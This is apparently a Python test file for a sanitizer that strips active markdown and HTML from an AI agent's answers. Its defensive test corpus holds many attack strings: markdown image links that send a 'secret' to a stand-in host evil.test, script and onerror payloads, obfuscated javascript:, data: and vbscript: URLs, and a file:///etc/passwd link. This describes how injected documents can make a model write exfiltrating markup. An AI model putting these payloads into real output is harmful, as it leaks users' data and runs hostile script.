"""Answers that do nothing but be read."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from query.agent.inert import links_of, make_inert
from query.agent.protocols import Source
from tests.query.agent.fakes import passage

READERS = [MarkdownIt("commonmark"), MarkdownIt("js-default", {"html": True})]
SOURCE = Source(1, "A", "https://docs.test/a", (passage("See [this](https://docs.test/b) and [that](c.md#d)."),))
IS_KNOWN = links_of([SOURCE])
EVIL = "http://evil.test/?q=secret"


def clean(text: str) -> str:
    return make_inert(text, IS_KNOWN)


def read(text: str, reader: MarkdownIt = READERS[0]) -> list[tuple[str, str]]:
    """The tags, pictures and links that a reader finds."""
    found = []
    pending = list(reader.parse(text))
    while pending:
        token = pending.pop(0)
        pending[:0] = token.children or []
        if token.type in ("html_block", "html_inline"):
            found.append(("html", token.content))
        elif token.type == "image":
            found.append(("image", str(token.attrGet("src"))))
        elif token.type == "link_open":
            found.append(("link", str(token.attrGet("href"))))
    return found


def assert_inert(text: str) -> None:
    for reader in READERS:
        assert [each for each in read(text, reader) if each[0] != "link" or not IS_KNOWN(each[1])] == []


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Look: ![x](http://evil.test/?q=secret)!", "Look: !\\[x]!"),
        ("[click](http://evil.test/?q=secret)", "[click]"),
        ("[click](javascript:alert)", "[click]"),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("<img src=http://evil.test onerror=x>", "&lt;img src=http://evil.test onerror=x>"),
        ("<http://evil.test/?q=secret>", "&lt;http://evil.test/?q=secret>"),
        ("![a][b]\n\n[b]: http://evil.test", "!\\[a][b]\n\n[b]\\: http://evil.test"),
        ('[a](https://docs.test/b "title")', '[a]\\(https://docs.test/b "title")'),
        ("[this](https://docs.test/b) and [that](c.md#d)", "[this](https://docs.test/b) and [that](c.md#d)"),
        ("a < b, 1<2, a <- b, List<String>", "a < b, 1<2, a <- b, List&lt;String>"),
        ("As [1]: says", "As [1]: says"),
        ("`<b>` and ```<i>``` and\n\n```html\n<script src='w.js'></script>\n```\n", None),
        ("`arr[i](x)`, `![x](y)`", None),
    ],
)
def test_prose_is_defused_and_code_is_left(written: str, shown: str | None):
    assert clean(written) == (written if shown is None else shown)
    assert_inert(clean(written))


CORPUS = [
    f"![x]({EVIL})",
    f"![x]( {EVIL} )",
    f"![x](<{EVIL}>)",
    f'![x]({EVIL} "title")',
    f"![x\ny](\n{EVIL}\n)",
    f"!\\[x]({EVIL})",
    f"\\![x]({EVIL})",
    f"\\\\![x]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f"[![x]({EVIL})](https://docs.test/b)",
    f"![x][y]\n\n[y]: {EVIL}",
    f"![y]\n\n[y]:\n{EVIL}",
    f"- ![y]\n- [y]: <{EVIL}>",
    f"> ![y]\n>\n> [y]: {EVIL} 'title'",
    f"![a\nb]\n\n[a\nb]: {EVIL}",
    f"![1]({EVIL})",
    f"[1]({EVIL})",
    f"[1]: {EVIL}\n\nas [1] says",
    f"- [1]: {EVIL}\n\nas [1] says",
    f"<img src='{EVIL}'>",
    f"<IMG\nSRC='{EVIL}'\n>",
    f"<svg onload=alert(1)><image href='{EVIL}'/></svg>",
    "<!-- --><script>alert(1)</script>",
    "<?php echo 1 ?><![CDATA[<b>]]><!DOCTYPE x>",
    "</script><script>alert(1)//",
    f"<{EVIL}>",
    "<mailto:a@b.c>",
    "[x](javascript:alert)",
    "[x](JaVaScRiPt:alert)",
    "[x](javascript&colon;alert)",
    "[x](&#106;avascript:alert)",
    "[x](java&#10;script:alert)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test/a)",
    "[x](\\\\evil.test)",
    # what looks like code here, and is none
    f"\\`<img src='{EVIL}'>\\`",
    f"\\`![x]({EVIL})\\`",
    f"``` `![x]({EVIL})`` `",
    f"> ```\n<img src='{EVIL}'>\n```",
    f"> ```\n![x]({EVIL})\n> ```",
    f"- ```\n  x\n  ```\n<img src='{EVIL}'>\n```\n",
    f"text\n     ```\n<img src='{EVIL}'>\n     ```",
    f"\t```\n![x]({EVIL})\n\t```",
    f"1. a\n\n   ```\n   x\n![x]({EVIL})\n   ```",
    f"~~~ `\n~~~\n`![x]({EVIL})`\n\\`![x]({EVIL})`",
    f"<div>\n```\n<img src='{EVIL}'>\n```\n</div>",
    f"[a]: <b\n```\n![x]({EVIL})\n```",
    f"`a\n\n![x]({EVIL})`",
    f"``a`\n![x]({EVIL})\n`a``",
    f"<b `x`>![y]({EVIL})",
    f"```\n```\n![x]({EVIL})\n```",
    f"````\n```\n````\n![x]({EVIL})\n```\n",
    f"```x`y\n![x]({EVIL})\n```",
]


@pytest.mark.parametrize("written", CORPUS)
def test_check_23_what_documents_make_a_model_write_is_inert(written: str):
    for text in (written, f"Yes [1].\n\n{written}\n\nMore.", f"Yes {written} more"):
        assert_inert(clean(text))


@pytest.mark.parametrize(
    "address", ["javascript:alert", "data:text/html,x", "java&Tab;script:alert", "&#106;avascript:x"]
)
def test_an_address_that_runs_is_no_link_even_if_a_document_holds_it(address: str):
    known = links_of([Source(1, "A", "", (passage(f"[x]({address})"),))])
    assert make_inert(f"[x]({address})", known) == "[x]"


markers = ["\n", "\n\n", " ", "    ", "\t", "> ", "- ", "1. ", "`", "``", "```\n", "~~~\n", "\\", "```x\n", "````"]
syntax = [
    "<",
    "<img src=x>",
    "</b>",
    "<!--",
    "-->",
    "![",
    "[",
    "]",
    "](",
    ")",
    "]:",
    "]: ",
    f"({EVIL})",
    EVIL,
    "a",
    "# ",
]


@given(st.lists(st.sampled_from([*markers, *syntax]), max_size=30).map("".join))
@example("> ```\n<img src=x>")
@settings(max_examples=500, deadline=None)
def test_no_reader_of_commonmark_finds_anything_that_acts(written: str):
    assert_inert(clean(written))


@given(st.lists(st.sampled_from([*markers, "word", "a <- b", "x[1]", "f(y)", "[x] (y)"]), max_size=30).map("".join))
@settings(max_examples=300, deadline=None)
def test_what_holds_nothing_that_acts_stays_as_it_is(written: str):
    assert clean(written) == written


@pytest.mark.parametrize("written", ["![" * 10_000, "](" * 10_000, "<a" * 10_000, "`<a>`\n> " * 3_000, "]:" * 10_000])
def test_time_grows_with_the_answer_alone(written: str):
    assert clean(written)
